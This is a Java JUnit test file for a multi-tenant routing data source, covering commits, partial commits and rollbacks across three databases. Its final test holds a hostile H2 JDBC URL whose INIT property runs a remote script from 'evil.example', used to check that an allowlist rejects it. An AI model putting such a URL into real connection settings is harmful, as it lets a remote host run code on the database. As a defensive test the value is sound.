package dev.headgate.datasource;

import static dev.headgate.datasource.StubTenant.execute;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.awaitility.Awaitility.await;

import dev.headgate.datasource.pool.AllowedDatabases;
import dev.headgate.datasource.pool.Database;
import dev.headgate.faults.Fault;
import dev.headgate.faults.Settings;
import dev.headgate.faults.StubDatabase;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.SQLTransactionRollbackException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import javax.sql.DataSource;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A unit of work on three databases: the tenant's own, and the binds users and audit. */
class BindTest {

  private static final TenantId TENANT = TenantId.of("acme");

  private final StubDatabase own = StubDatabase.create(UUID.randomUUID().toString());
  private final StubDatabase users = StubDatabase.create(UUID.randomUUID().toString());
  private final StubDatabase audit = StubDatabase.create(UUID.randomUUID().toString());
  private final RoutingDataSource dataSource =
      RoutingDataSource.builder(TenantDirectory.of(Map.of("acme", Database.of(own.url()))))
          .bind("users", Database.of(users.url()))
          .bind("audit", tenant -> Database.of(audit.url()))
          .build();

  @AfterEach
  void nothingIsLeft() {
    try {
      assertThat(dataSource.snapshot().pools()).allMatch(pool -> pool.leases() == 0);
      assertThatThrownBy(dataSource::current).isInstanceOf(IllegalStateException.class);
      for (StubDatabase stub : List.of(own, users, audit)) {
        // Connections are destroyed by another thread.
        await()
            .pollDelay(Duration.ZERO)
            .untilAsserted(
                () ->
                    assertThat(stub.isClean(Settings.INITIAL.withAutoCommit(false)))
                        .as("clean: %s", stub.states())
                        .isTrue());
      }
    } finally {
      dataSource.close();
      own.close();
      users.close();
      audit.close();
    }
  }

  private static void insert(DataSource target, String token) throws SQLException {
    try (Connection connection = target.getConnection()) {
      execute(connection, "INSERT " + token);
    }
  }

  /** Works in the opposite of the order of commits. */
  private void insertInAll() throws SQLException {
    insert(dataSource.bind("audit"), "c");
    insert(dataSource.bind("users"), "b");
    insert(dataSource, "a");
  }

  private static TransactionOutcome ended(String bind, Outcome outcome) {
    return new TransactionOutcome(bind, outcome);
  }

  private static Fault refusal() {
    return Fault.throwBefore(() -> new SQLException("refused", "23503"));
  }

  @Test
  void allDatabases_haveOneOutcome() throws SQLException {
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    assertThat(own.committed()).isEmpty();
    work.finish();
    assertThat(own.committed()).containsExactly("a");
    assertThat(users.committed()).containsExactly("b");
    assertThat(audit.committed()).containsExactly("c");
    assertThat(work.outcome()).contains(Outcome.COMMITTED);
    assertThat(work.outcomes())
        .containsExactly(
            ended("", Outcome.COMMITTED),
            ended("users", Outcome.COMMITTED),
            ended("audit", Outcome.COMMITTED));
  }

  @Test
  void withoutCommit_allIsRolledBack() throws SQLException {
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    work.close();
    assertThat(own.committed()).isEmpty();
    assertThat(users.committed()).isEmpty();
    assertThat(audit.committed()).isEmpty();
    assertThat(work.outcome()).contains(Outcome.ROLLED_BACK);
  }

  @Test
  void aBindThatIsNotUsed_costsNothing() throws SQLException {
    try (UnitOfWork work = dataSource.begin(TENANT)) {
      DataSource unused = dataSource.bind("users");
      insert(dataSource, "a");
      work.commit();
      assertThat(unused).isSameAs(dataSource.bind("users"));
    }
    assertThat(users.connectionsMade()).isZero();
    assertThat(dataSource.snapshot().pools()).hasSize(1);
  }

  @Test
  void aBindAlone_leavesTheTenantsOwnDatabaseAlone() throws SQLException {
    UnitOfWork work = dataSource.begin(TENANT);
    insert(dataSource.bind("users"), "b");
    work.finish();
    assertThat(own.connectionsMade()).isZero();
    assertThat(work.outcomes()).containsExactly(ended("users", Outcome.COMMITTED));
  }

  @Test
  void ifTheFirstCommitFails_nothingIsStoredAnywhere() throws SQLException {
    own.arm("Connection.commit()"::equals, refusal());
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    assertThatThrownBy(work::finish).isInstanceOf(RolledBackException.class);
    assertThat(users.committed()).isEmpty();
    assertThat(audit.committed()).isEmpty();
    assertThat(work.outcome()).contains(Outcome.ROLLED_BACK);
  }

  @Test
  void ifALaterCommitFails_theExceptionListsWhatIsStoredAndWhatIsNot() throws SQLException {
    users.arm("Connection.commit()"::equals, refusal());
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    PartialCommitException failure =
        catchThrowableOfType(PartialCommitException.class, work::finish);
    assertThat(failure.outcomes())
        .containsExactly(
            ended("", Outcome.COMMITTED),
            ended("users", Outcome.ROLLED_BACK),
            ended("audit", Outcome.ROLLED_BACK));
    assertThat((Throwable) failure)
        .hasMessageContaining("tenant \"acme\"")
        .hasMessageContaining(
            "the tenant's own database: COMMITTED, bind \"users\": ROLLED_BACK, bind \"audit\":"
                + " ROLLED_BACK")
        .hasMessageContaining("the transaction of tenant \"acme\" in bind \"users\"")
        .hasMessageContaining("refused")
        .hasCauseInstanceOf(RolledBackException.class);
    assertThat(failure.getSQLState()).isEqualTo("25000");
    assertThat(own.committed()).containsExactly("a");
    assertThat(users.committed()).isEmpty();
    assertThat(audit.committed()).isEmpty();
    assertThat(work.outcome()).contains(Outcome.PARTLY);
  }

  @Test
  void afterAPartialCommit_theUnitSaysSoAgain_andCantGoOn() throws SQLException {
    audit.arm("Connection.commit()"::equals, refusal());
    try (UnitOfWork work = dataSource.begin(TENANT)) {
      insertInAll();
      PartialCommitException failure =
          catchThrowableOfType(PartialCommitException.class, work::commit);
      insert(dataSource, "later");
      assertThatThrownBy(work::commit).isSameAs(failure);
    }
    assertThat(own.committed()).containsExactly("a");
    assertThat(users.committed()).containsExactly("b");
    assertThat(audit.committed()).isEmpty();
  }

  @Test
  void aLaterCommitWithoutAnswer_isUnknownInTheList() throws SQLException {
    users.arm("Connection.commit()"::equals, Fault.breakAfter());
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    PartialCommitException failure =
        catchThrowableOfType(PartialCommitException.class, work::finish);
    assertThat(failure.outcomes())
        .containsExactly(
            ended("", Outcome.COMMITTED),
            ended("users", Outcome.UNKNOWN),
            ended("audit", Outcome.ROLLED_BACK));
    assertThat((Throwable) failure).hasCauseInstanceOf(OutcomeUnknownException.class);
  }

  @Test
  void aFirstCommitWithoutAnswer_isUnknown_andTheRestIsRolledBack() throws SQLException {
    own.arm("Connection.commit()"::equals, Fault.breakAfter());
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    assertThatThrownBy(work::finish).isInstanceOf(OutcomeUnknownException.class);
    assertThat(work.outcomes())
        .containsExactly(
            ended("", Outcome.UNKNOWN),
            ended("users", Outcome.ROLLED_BACK),
            ended("audit", Outcome.ROLLED_BACK));
    assertThat(users.committed()).isEmpty();
  }

  @Test
  void aTransactionThatOneDatabaseHasLost_isSeenBeforeAnyIsCommitted() throws SQLException {
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    audit.arm(
        call -> call.contains("INSERT d"),
        Fault.throwBefore(() -> new SQLTransactionRollbackException("deadlock", "40P01")));
    assertThatThrownBy(() -> insert(dataSource.bind("audit"), "d")).hasMessage("deadlock");
    assertThatThrownBy(work::finish).isInstanceOf(RolledBackException.class);
    assertThat(own.committed()).isEmpty();
    assertThat(users.committed()).isEmpty();
    assertThat(work.outcome()).contains(Outcome.ROLLED_BACK);
  }

  @Test
  void aRollbackThatFails_keepsNoOtherDatabaseFromIt() throws SQLException {
    own.arm("Connection.rollback()"::equals, Fault.throwBefore(() -> new SQLException("no state")));
    UnitOfWork work = dataSource.begin(TENANT);
    insertInAll();
    assertThatThrownBy(work::close).isInstanceOf(SQLException.class);
    assertThat(users.calls()).contains("Connection.rollback()");
    assertThat(audit.calls()).contains("Connection.rollback()");
  }

  @Test
  void aPartThatIsClosedWithoutCommit_isUndoneInAllDatabases() throws SQLException {
    try (UnitOfWork work = dataSource.begin(TENANT)) {
      insert(dataSource, "a");
      insert(dataSource.bind("users"), "b");
      UnitOfWork part = dataSource.begin(TENANT);
      insertInAll();
      insert(dataSource.bind("audit"), "d");
      part.close();
      insert(dataSource.bind("audit"), "e");
      work.commit();
    }
    assertThat(own.committed()).containsExactly("a");
    assertThat(users.committed()).containsExactly("b");
    assertThat(audit.committed()).as("first used inside of the part").containsExactly("e");
  }

  @Test
  void aPartThatIsCommitted_staysInAllDatabases() throws SQLException {
    try (UnitOfWork work = dataSource.begin(TENANT)) {
      try (UnitOfWork part = dataSource.begin(TENANT)) {
        insertInAll();
        part.commit();
        insert(dataSource.bind("users"), "x");
      }
      work.commit();
    }
    assertThat(own.committed()).containsExactly("a");
    assertThat(users.committed()).containsExactly("b");
    assertThat(audit.committed()).containsExactly("c");
  }

  @Test
  void aPartOfWhichOneDatabaseHasLostSomething_isKeptInNone() throws SQLException {
    try (UnitOfWork work = dataSource.begin(TENANT)) {
      UnitOfWork part = dataSource.begin(TENANT);
      insertInAll();
      users.arm(
          call -> call.contains("INSERT d"),
          Fault.throwBefore(() -> new SQLTransactionRollbackException("deadlock", "40P01")));
      assertThatThrownBy(() -> insert(dataSource.bind("users"), "d")).hasMessage("deadlock");
      assertThatThrownBy(part::commit).isInstanceOf(SQLException.class);
      part.close();
      work.commit();
    }
    assertThat(own.committed()).isEmpty();
    assertThat(audit.committed()).isEmpty();
  }

  @Test
  void outsideAUnitOfWork_aBindGivesNoConnection() {
    assertThatThrownBy(() -> dataSource.bind("users").getConnection())
        .isInstanceOf(NoUnitOfWorkException.class);
  }

  @Test
  void aBindThatIsNotNamed_isRefused() {
    assertThatThrownBy(() -> dataSource.bind("archive"))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("there is no bind \"archive\"")
        .hasMessageContaining("users");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " "})
  void aBlankName_isRefused(String name) {
    RoutingDataSource.Builder builder = RoutingDataSource.builder(Database.of(own.url()));
    assertThatThrownBy(() -> builder.bind(name, Database.of(users.url())))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("blank");
  }

  @Test
  void aNameThatIsTaken_isRefused() {
    RoutingDataSource.Builder builder =
        RoutingDataSource.builder(Database.of(own.url())).bind("users", Database.of(users.url()));
    assertThatThrownBy(() -> builder.bind("users", tenant -> Database.of(users.url())))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("\"users\" was already named");
  }

  @Test
  void aBindWithoutADatabaseForTheTenant_isAFailureOfTheDirectory() throws SQLException {
    try (RoutingDataSource source =
            RoutingDataSource.builder(Database.of(own.url())).bind("archive", t -> null).build();
        UnitOfWork work = source.begin(TenantId.ONLY)) {
      assertThatThrownBy(() -> source.bind("archive").getConnection())
          .isInstanceOf(TenantDirectoryException.class)
          .hasMessageContaining("bind \"archive\" has no database for the tenant");
      insert(source, "a");
      work.commit();
    }
    assertThat(own.committed()).containsExactly("a");
  }

  @Test
  void aBindWithADatabaseThatIsNotAllowed_isAFailureOfTheDirectory() throws SQLException {
    AllowedDatabases allowed = AllowedDatabases.under("jdbc:h2:mem:");
    String url = "jdbc:h2:mem:archive;INIT=RUNSCRIPT FROM 'http://evil.example/'";
    try (RoutingDataSource source =
            RoutingDataSource.builder(Database.of(own.url()))
                .bind("archive", tenant -> allowed.require(Database.of(url)))
                .build();
        UnitOfWork work = source.begin(TenantId.ONLY)) {
      assertThatThrownBy(() -> source.bind("archive").getConnection())
          .isInstanceOf(TenantDirectoryException.class)
          .hasMessageContaining("the driver property INIT is none of the allowed ones");
    }
  }
}
